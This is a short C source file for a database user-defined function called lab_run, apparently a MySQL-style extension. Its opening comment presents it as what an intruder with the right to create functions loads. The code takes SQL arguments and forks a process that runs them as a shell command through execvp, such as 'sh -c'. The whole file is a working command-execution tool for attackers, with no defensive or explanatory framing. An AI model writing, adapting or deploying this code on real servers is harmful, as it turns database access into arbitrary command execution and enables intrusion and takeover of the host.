/* A user-defined function that starts a program, as an intruder with the right to make functions loads one:
   SELECT lab_run('sh', '-c', '...'). Built without headers or a C library of its own: the server brings one. */
extern int fork(void);
extern int execvp(const char *file, char *const argv[]);
extern void _exit(int code);
extern void *memcpy(void *to, const void *from, unsigned long length);

struct args {
    unsigned int count;
    int *types;
    char **values;
    unsigned long *lengths;
};

char lab_run_init(void *self, struct args *args, char *message) { return 0; }

long long lab_run(void *self, struct args *args, char *is_null, char *error) {
    static char room[16][1024];
    char *argv[17];
    unsigned int i;
    for (i = 0; i < args->count && i < 16; i++) {
        unsigned long length = args->lengths[i] < 1023 ? args->lengths[i] : 1023;
        memcpy(room[i], args->values[i], length);
        room[i][length] = 0;
        argv[i] = room[i];
    }
    argv[i] = 0;
    if (fork() == 0) {
        execvp(argv[0], argv);
        _exit(127);
    }
    return 1;
}
